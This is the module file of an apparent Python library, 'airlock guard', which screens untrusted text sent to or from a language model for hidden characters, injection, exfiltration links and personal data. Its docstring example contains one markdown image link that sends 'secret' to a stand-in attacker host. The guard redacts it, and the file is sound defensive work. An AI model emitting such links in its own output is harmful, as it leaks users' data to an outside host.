"""airlock guard: validate, filter, encode and check untrusted text before it reaches a model (or
a response before it reaches a user), offline and fast.

::

    from airlock.guard import Guard, GuardConfig

    guard = Guard()                      # the default pipeline (docs/guard.md)
    result = guard.check("mail bob@example.com ![x](https://evil.example/?q=secret)")
    result.decision                      # Decision.REDACTED
    result.text                          # 'mail <EMAIL_ADDRESS> «removed»'
    [(f.step, f.rule, f.span) for f in result.findings]

The pipeline: size limits (before any work), ``unicode`` (hidden characters), ``nfkc``,
``confusables`` (homoglyphs), ``validate`` (character classes, JSON Schema), ``filter`` (script,
markup, exfiltration links and images), ``injection`` (the prompt-injection detector), ``pii`` (Presidio, regex recognisers), ``encode`` (for the
sink). Every finding's span is in the original text. Nothing is logged, nothing read from the
environment or the current directory; the configuration is the :class:`GuardConfig` you pass.
"""

from __future__ import annotations

from airlock.guard._encode import EncodeConfig, Sink, encode
from airlock.guard._filter import FilterConfig
from airlock.guard._injection_step import InjectionConfig
from airlock.guard._pii import DEFAULT_ENTITIES, PIIConfig
from airlock.guard._pipeline import Guard, GuardConfig, build_steps
from airlock.guard._sizes import SizeLimits
from airlock.guard._step import Step, StepReport
from airlock.guard._table import config_from_table
from airlock.guard._types import Action, Decision, Edit, GuardFinding, GuardResult, Hit, Pseudonyms, Span
from airlock.guard._unicode import UnicodeConfig
from airlock.guard._validate import ValidationConfig

__all__ = [
    "DEFAULT_ENTITIES",
    "Action",
    "Decision",
    "Edit",
    "EncodeConfig",
    "FilterConfig",
    "Guard",
    "GuardConfig",
    "GuardFinding",
    "GuardResult",
    "Hit",
    "InjectionConfig",
    "PIIConfig",
    "Pseudonyms",
    "Sink",
    "SizeLimits",
    "Span",
    "Step",
    "StepReport",
    "UnicodeConfig",
    "ValidationConfig",
    "build_steps",
    "config_from_table",
    "encode",
]
